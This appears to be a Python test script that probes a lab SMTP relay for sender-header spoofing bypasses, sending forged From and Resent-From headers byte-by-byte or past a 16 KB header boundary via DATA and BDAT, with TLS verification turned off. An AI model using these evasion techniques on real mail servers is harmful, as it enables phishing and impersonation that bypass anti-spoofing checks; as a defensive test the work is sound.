import sys, ssl, base64; sys.path.insert(0,'/tmp/attack28')
from h import *
ctx = ssl.create_default_context(); ctx.check_hostname=False; ctx.verify_mode=ssl.CERT_NONE
def authed():
    c = C(src='127.0.0.1') if False else C()
    c.reply(); c.cmd('EHLO a.test'); c.cmd('STARTTLS'); c.s = ctx.wrap_socket(c.s, server_hostname='relay.test'); c.buf=b''
    c.cmd('EHLO a.test'); r = c.cmd('AUTH PLAIN ' + base64.b64encode(b'\0app\0app-password').decode()); assert r[0].startswith('235'), r
    return c
before = sinkcount()
for name, msg, mode in [('evil-bytewise', b'Subject: x\r\nFrom: evil@evil.test\r\n\r\nx\r\n', 'byte'), ('evil-after-long-hdr', b'X-Pad: ' + b'p'*900 + b'\r\n' + (b'X-P: ' + b'q'*90 + b'\r\n') * 200 + b'From: evil@evil.test\r\n\r\nx\r\n', (16383, 16385)),
                        ('resent-bytewise', b'From: a@acme.test\r\nResent-From: evil@evil.test\r\n\r\nx\r\n', 'byte'), ('ok-bytewise', b'From: a@acme.test\r\nSubject: ok\r\n\r\nx\r\n', 'byte')]:
    for via in ('data', 'bdat'):
        c = authed(); c.cmd('MAIL FROM:<a@acme.test>'); c.cmd('RCPT TO:<bob@dest.test>')
        if via == 'data':
            c.cmd('DATA'); writeby(c, msg + b'.\r\n', mode); r = c.reply()
        else:
            if mode == 'byte':
                for i in range(len(msg)): c.send(b'BDAT 1%s\r\n' % (b' LAST' if i == len(msg)-1 else b'') + msg[i:i+1])
                rs = [c.reply()[0] for _ in range(len(msg))]; r = [x for x in rs if not x.startswith('250 2.0.0 Ok: 1 octets')] or rs[-1:]
            else:
                c.send(b'BDAT %d LAST\r\n' % len(msg) + msg); r = c.reply()
        c.close(); print(name, via, r[:2])
print('delivered', len(newmsgs(before, wait=4, want=2)))
